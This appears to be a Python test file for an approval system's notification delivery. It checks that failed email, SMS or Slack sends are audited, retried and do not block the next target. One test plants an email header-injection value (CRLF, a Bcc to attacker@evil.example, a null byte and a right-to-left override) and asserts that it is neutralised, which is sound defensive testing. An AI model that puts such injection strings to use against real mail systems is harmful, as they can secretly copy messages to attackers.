"""Issue 9 §6: a request nobody is told about can expire approved by nobody. A control character in the
action used to make email delivery raise (not a DeliveryError), which ended the job before the SMS target;
now any failure is audited as notify_failed, retried, and the next target still gets its message."""

from __future__ import annotations

import json

from tests.escalation.conftest import OutboxProbe
from tests.security.rendering_env import ALICE_EMAIL, ALICE_PHONE, NotifyEnv, notify_env
from tests.support.rq_worker import make_due, run_burst, scheduled
from tests.support.slack_app import slack_harness


async def _rewrite_action(env: NotifyEnv, approval_id: str, action: str) -> None:
    """Write a record intake would refuse straight to Redis (an old record, or another writer)."""
    runtime = env.running.runtime
    key = runtime.keys.approval(approval_id)
    request = json.loads(await runtime.redis.hget(key, "req"))
    request["action"] = action
    await runtime.redis.hset(key, "req", json.dumps(request))


async def _audit(env: NotifyEnv, approval_id: str, event_type: str) -> list[dict[str, object]]:
    return [e.detail for e in await env.running.runtime.service.events(approval_id) if e.type == event_type]


async def test_control_char_action_delivery_failure_is_audited_and_next_target_notified(redis_server):
    async with notify_env(redis_server) as env:
        approval_id = await env.submit(action="restart_service")
        await _rewrite_action(env, approval_id, "restart_service\r\nBcc: attacker@evil.example\x00\u202e")
        await env.send_channels()
        # Both targets are told; the action is shown with its control characters made visible.
        received = await env.email()
        assert received.recipients == [ALICE_EMAIL] and "Bcc" not in received.message
        assert "restart_service↵↵Bcc: attacker@evil.example⟨U+0000⟩⟨U+202E⟩" in received.message["Subject"]
        [sms] = await env.twilio.wait_for_accepted(1)
        assert sms.to == ALICE_PHONE and "restart_service↵↵Bcc" in sms.body
        notified = {d["channel"] for d in await _audit(env, approval_id, "notified")}
        assert notified == {"email", "sms"}


async def test_one_failing_target_is_audited_retried_and_next_target_notified(redis_server):
    async with notify_env(redis_server) as env:
        approval_id = await env.submit(action="restart_service")
        env.smtp.stop()  # the mail server refuses connections: the first target fails
        await env.send_channels()
        [sms] = await env.twilio.wait_for_accepted(1)
        assert sms.to == ALICE_PHONE
        [failed] = await _audit(env, approval_id, "notify_failed")
        assert failed["channel"] == "email" and failed["target_kind"] == "email address"
        assert failed["retrying"] is True and "SMTP" in str(failed["error"])
        # RQ retries the failed send (the email batch's job); the retry sends only what was not sent (no second SMS).
        settings = env.running.runtime.settings
        retry = [job for job, _ in scheduled(settings) if f"ch-{approval_id}" in job or "batch-" in job]
        assert retry, scheduled(settings)
        env.smtp.start()
        make_due(settings, *retry)
        await run_burst(settings)
        assert (await env.email()).recipients == [ALICE_EMAIL]
        assert len(env.twilio.accepted) == 1
        assert {d["channel"] for d in await _audit(env, approval_id, "notified")} == {"email", "sms"}


async def test_slack_unreachable_post_is_audited_and_queued_again(redis_server):
    # Connection errors reach us as aiohttp exceptions, not Slack's own error types; they used to end in
    # a log line with no audit entry and no second attempt.
    async with slack_harness(redis_server) as slack:
        probe = OutboxProbe()  # subscribed after the Slack adapter: once it has the event, the post is queued
        slack.running.runtime.outbox.subscribe(probe)
        await slack.emulator.stop()
        approval = await slack.submit()
        await probe.wait("created", approval["id"])
        await slack.slack.pacer.idle()
        failed = [
            e.detail for e in await slack.running.runtime.service.events(approval["id"]) if e.type == "notify_failed"
        ]
        assert failed and failed[0]["channel"] == "slack" and failed[0]["target_kind"] == "channel"
        assert failed[0]["retrying"] is True and "ClientConnectorError" in str(failed[0]["error"])
